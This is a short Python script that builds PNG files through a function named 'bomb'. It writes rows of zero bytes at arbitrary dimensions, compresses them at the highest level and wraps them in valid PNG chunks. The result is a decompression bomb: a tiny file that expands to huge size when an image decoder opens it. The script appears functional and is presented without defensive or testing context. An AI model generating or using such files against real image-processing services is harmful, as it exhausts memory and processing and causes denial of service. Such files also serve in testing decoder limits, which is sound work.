import zlib, struct
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
def bomb(w, h):
    co = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * w
    parts = [co.compress(row) for _ in range(h)]
    parts.append(co.flush())
    idat = b"".join(parts)
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)  # greyscale 8-bit
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
